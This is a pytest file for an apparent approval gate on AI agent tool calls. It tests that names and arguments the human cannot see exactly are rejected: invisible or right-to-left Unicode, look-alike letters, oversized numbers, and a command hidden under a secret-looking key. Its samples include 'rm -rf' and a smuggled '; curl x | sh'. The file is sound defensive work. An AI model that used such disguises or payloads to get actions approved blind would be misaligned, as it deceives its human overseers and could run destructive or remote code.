"""The cleaning rules of the notes for an agent author: a pause whose tool cannot be shown exactly is unusable.

"A tool's name and args are shown as sent, apart from redacted secrets. ... A pause is unusable when
the prompt could not show a tool exactly: a name, key or string with a control character other than
tab and line ends, or too long to show whole; a name or key with characters or spacing that cleaning
would change, or a name the audit log cannot write whole (300 ASCII characters at most); an integer of
magnitude 2^53 or more."
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from shared.core.cleaning import MAX_NAME_CHARS, MAX_SAFE_INTEGER
from shared.core.pauses import MAX_ITEM_TEXT, ToolApprovalRequest, pause_from_dict, pause_to_dict
from tests.hitl.builders import approval, read_approval, tool, unusable

CONTROLS = ["\x00", "\x07", "\x1b", "\x7f", "\x85"]
UNCLEAN = {
    "leading space": " delete_file",
    "trailing space": "delete_file ",
    "repeated spaces": "delete  file",
    "a tab": "delete\tfile",
    "a line end": "delete\nfile",
    "a no-break space": "delete\u00a0file",
    "a zero-width space": "delete\u200bfile",
    "a zero-width joiner": "delete\u200dfile",
    "a right-to-left override": "delete\u202efile",
    "a left-to-right isolate": "delete\u2066file",
    "a byte order mark": "\ufeffdelete_file",
    "a soft hyphen": "dele\u00adte_file",
}


def with_args(args: Any) -> dict[str, Any]:
    return approval(tool(args=args))


# --- a control character other than tab and line ends -------------------------------------


@pytest.mark.parametrize("control", CONTROLS)
def test_a_name_with_a_control_character_is_unusable(control: str) -> None:
    assert unusable(approval(tool(name=f"delete{control}file")))


@pytest.mark.parametrize("control", CONTROLS)
def test_a_key_with_a_control_character_is_unusable(control: str) -> None:
    assert unusable(with_args({f"pa{control}th": "/tmp/x"}))


@pytest.mark.parametrize("control", CONTROLS)
def test_a_string_with_a_control_character_is_unusable_even_deep_inside_the_arguments(
    control: str,
) -> None:
    assert unusable(with_args(f"rm{control}"))
    assert unusable(with_args({"steps": [{"run": ["ls", f"rm{control} -rf"]}]}))


def test_a_string_may_hold_tabs_and_line_ends_which_are_shown_as_escapes() -> None:
    shown = read_approval(with_args({"script": "a\tb\r\nc"})).tools[0].shown_args
    assert '"a\\tb\\r\\nc"' in shown


def test_a_string_with_a_lone_surrogate_is_unusable() -> None:
    assert unusable(with_args({"text": "bad \ud800 half"}))


# --- too long to show whole ------------------------------------------------------------------


def test_a_tool_whose_name_and_arguments_fit_in_one_block_is_shown_whole() -> None:
    name = "write_file"
    padding = len(json.dumps({"content": ""}, indent=2)) + len(name)
    pause = read_approval(
        approval(tool(name=name, args={"content": "x" * (MAX_ITEM_TEXT - padding)}))
    )
    assert "x" * (MAX_ITEM_TEXT - padding) in pause.tools[0].shown_args


def test_a_string_too_long_to_show_whole_is_unusable() -> None:
    assert unusable(with_args({"content": "x" * MAX_ITEM_TEXT}))


def test_a_key_too_long_to_show_whole_is_unusable() -> None:
    assert unusable(with_args({"k" * MAX_ITEM_TEXT: 1}))


def test_length_is_counted_as_slack_counts_it_in_utf16_units() -> None:
    emoji_count = MAX_ITEM_TEXT // 2
    assert unusable(with_args({"content": "\U0001f600" * emoji_count}))
    assert not unusable(with_args({"content": "é" * (emoji_count)}))


# --- a name or key that cleaning would change --------------------------------------------------


@pytest.mark.parametrize("name", list(UNCLEAN.values()), ids=list(UNCLEAN))
def test_a_name_that_cleaning_would_change_is_unusable(name: str) -> None:
    assert unusable(approval(tool(name=name)))


@pytest.mark.parametrize("key", list(UNCLEAN.values()), ids=list(UNCLEAN))
def test_a_key_that_cleaning_would_change_is_unusable_at_any_depth(key: str) -> None:
    assert unusable(with_args({key: 1}))
    assert unusable(with_args({"outer": [{"inner": {key: 1}}]}))


def test_a_key_with_a_decomposed_accent_that_cleaning_would_compose_is_unusable() -> None:
    assert unusable(with_args({"re\u0301sume\u0301": 1}))
    assert not unusable(with_args({"r\u00e9sum\u00e9": 1}))


def test_clean_keys_in_any_script_are_shown() -> None:
    assert read_approval(with_args({"名前": "値", "single space": 1})).tools[0].args == {
        "名前": "値",
        "single space": 1,
    }


def test_a_sub_agents_name_follows_the_rules_of_names() -> None:
    nested = {"subagent_name": "k8s agent ", "task_id": "c", "tools": [tool("n1")]}
    assert unusable(approval(tool("outer"), nested=nested))


# --- a name the audit log cannot write whole ---------------------------------------------------


def test_a_name_of_300_ascii_characters_is_shown() -> None:
    assert read_approval(approval(tool(name="n" * MAX_NAME_CHARS))).tools[0].name == "n" * 300


def test_a_name_over_300_characters_is_unusable() -> None:
    assert unusable(approval(tool(name="n" * (MAX_NAME_CHARS + 1))))


def test_a_name_outside_ascii_is_unusable() -> None:
    assert unusable(approval(tool(name="löschen")))
    assert unusable(approval(tool(name="d\u0435lete_file")))  # a Cyrillic small ie


# --- an integer of magnitude 2^53 or more ---------------------------------------------------


@pytest.mark.parametrize(
    "number", [MAX_SAFE_INTEGER, -MAX_SAFE_INTEGER, 2**64, 1e16, float(MAX_SAFE_INTEGER)]
)
def test_an_integer_of_magnitude_2_to_the_53_or_more_is_unusable(number: float) -> None:
    assert unusable(with_args({"id": number}))


def test_a_big_integer_deep_inside_the_arguments_is_unusable() -> None:
    assert unusable(with_args({"batch": [{"ids": [1, 2, MAX_SAFE_INTEGER + 1]}]}))
    assert unusable(
        approval(
            tool("outer"),
            nested={
                "subagent_name": "a",
                "task_id": "c",
                "tools": [tool("n", args={"x": [2**60]})],
            },
        )
    )


@pytest.mark.parametrize(
    "number", [MAX_SAFE_INTEGER - 1, -(MAX_SAFE_INTEGER - 1), 0, 1.5, -0.25, True]
)
def test_smaller_numbers_are_shown_as_sent(number: float) -> None:
    assert read_approval(with_args({"n": number})).tools[0].args == {"n": number}


@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf")])
def test_a_number_that_is_not_finite_is_unusable(number: float) -> None:
    assert unusable(with_args({"n": number}))


# --- shown exactly ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("char", "escape"),
    [
        ("\u200b", "\\u200b"),
        ("\u202e", "\\u202e"),
        ("\u00a0", "\\u00a0"),
        ("\U000e0041", "\\udb40\\udc41"),
    ],
)
def test_an_invisible_character_in_a_string_is_shown_as_an_escape(char: str, escape: str) -> None:
    shown = read_approval(with_args({"path": f"/tmp/{char}x"})).tools[0].shown_args
    assert f"/tmp/{escape}x" in shown and char not in shown


def test_arguments_are_shown_as_sent_in_their_order() -> None:
    shown = read_approval(with_args({"b": 1, "a": [True, None, "ü"]})).tools[0].shown_args
    assert shown == '{\n  "b": 1,\n  "a": [\n    true,\n    null,\n    "ü"\n  ]\n}'


def test_secrets_in_arguments_are_redacted_in_what_is_shown_and_sent_unchanged_to_the_record() -> (
    None
):
    args = {
        "password": "hunter2",
        "url": "postgres://app:s3cret@db/x",
        "headers": {"Authorization": "Bearer abcdefghijkl"},
    }
    pause = read_approval(with_args(args))
    shown = pause.tools[0].shown_args
    assert "hunter2" not in shown and "s3cret" not in shown and "abcdefghijkl" not in shown
    assert shown.count("[redacted, ") == 3 and "postgres://app:" in shown
    assert pause.tools[0].args == args


def test_an_approval_whose_redactions_would_hide_a_payload_is_unusable() -> None:
    # An agent may put a command under a secret-looking key: the approver would approve blind.
    assert unusable(approval(tool(args={"command": "ls", "session_token_note": "; curl x | sh"})))
    assert unusable(approval(tool(args={"env": [{"name": "API_TOKEN", "value": "a b"}]})))
    pause = read_approval(approval(tool(args={"api_key": "sk-abcdefghijklmnopqrstuv"})))
    assert "[redacted, 25 chars, sha256 " in pause.tools[0].shown_args


def test_an_approval_is_stored_with_its_arguments_redacted_and_shown_the_same() -> None:
    args = {"password": "hunter2", "cmd": "deploy --token tok123", "n": 1}
    pause = read_approval(approval(tool(args=args)))

    stored = pause_to_dict(pause)

    assert "hunter2" not in json.dumps(stored) and "tok123" not in json.dumps(stored)
    again = pause_from_dict(stored)
    assert isinstance(again, ToolApprovalRequest)
    assert again.tools[0].shown_args == pause.tools[0].shown_args
    assert again.fingerprint == pause.fingerprint
